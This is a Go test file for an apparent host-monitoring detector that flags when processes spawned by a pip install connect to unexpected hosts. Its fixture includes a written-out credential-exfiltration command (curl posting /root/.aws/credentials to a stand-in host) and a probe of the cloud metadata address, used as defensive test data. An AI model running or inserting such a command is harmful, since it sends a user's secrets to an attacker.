package install

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"picket/event"
)

var start = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func ran(pid uint32, parent *event.Process, line string) *event.Process {
	args := strings.Fields(line)
	return &event.Process{PID: pid, StartBoot: 1, UID: line, Exe: args[0], Args: args, Cmdline: line, Parent: parent}
}

func connect(p *event.Process, to, host string) *event.Event {
	return &event.Event{Kind: event.NetConnect, Time: start, Process: p, Net: event.Net{Remote: netip.MustParseAddrPort(to), Hostname: host, Initiated: true}}
}

func TestWhatAPackageRunsIsHeldToWhereItsInstallerGoes(t *testing.T) {
	shell := ran(10, nil, "/bin/bash")
	pip := ran(11, shell, "/usr/bin/python3 /usr/bin/pip install evil")
	build := ran(12, pip, "/usr/bin/python3 /tmp/x/_in_process.py build_wheel /tmp/y")
	nested := ran(13, build, "/usr/bin/python3 /usr/bin/pip install setuptools")
	curl := ran(14, build, "/usr/bin/curl -d @/root/.aws/credentials http://203.0.113.66/")
	w := New("h")
	for _, quiet := range []*event.Event{
		connect(pip, "198.51.100.7:443", "files.pythonhosted.org"), connect(nested, "198.51.100.8:443", "pypi.org"),
		connect(build, "198.51.100.8:443", ""), connect(build, "198.51.100.9:443", "pypi.org"), // another address of the same name
		connect(build, "10.0.0.2:53", ""), connect(build, "127.0.0.1:8080", ""), connect(shell, "203.0.113.66:80", ""),
	} {
		if d := w.See(quiet); d != nil {
			t.Errorf("%s", d.Describe())
		}
	}
	d := w.See(connect(curl, "203.0.113.66:80", "drop.example.com"))
	if d == nil || d.Deviation.What != event.DeviantInstall || !strings.Contains(d.Describe(), "drop.example.com (203.0.113.66:80)") || !strings.Contains(d.Describe(), "files.pythonhosted.org") {
		t.Fatalf("%v", d)
	}
	if again := w.See(connect(curl, "203.0.113.66:80", "drop.example.com")); again != nil {
		t.Error("it is told twice")
	}
	if w.See(connect(build, "169.254.169.254:80", "")) == nil {
		t.Error("the metadata service is told of no more")
	}
}

func TestMemoryIsBounded(t *testing.T) {
	w := New("h")
	for i := range maxRuns + 20 {
		pip := ran(uint32(i+1), nil, "pip install x")
		for j := range maxPlaces + 20 {
			w.See(connect(pip, fmt.Sprintf("198.51.%d.%d:443", j/256, j%256), ""))
			w.See(connect(ran(uint32(i+10_000), pip, "sh"), fmt.Sprintf("203.0.%d.%d:443", j/256, j%256), ""))
		}
	}
	if len(w.runs) > maxRuns || w.Dropped() == 0 {
		t.Errorf("%d runs, %d dropped", len(w.runs), w.Dropped())
	}
	for _, r := range w.runs {
		if len(r.index) > maxPlaces || len(r.told) > maxPlaces {
			t.Errorf("%d and %d places", len(r.index), len(r.told))
		}
	}
	w.Advance(start.Add(2 * keep))
	if len(w.runs) != 0 {
		t.Errorf("%d runs are kept", len(w.runs))
	}
}
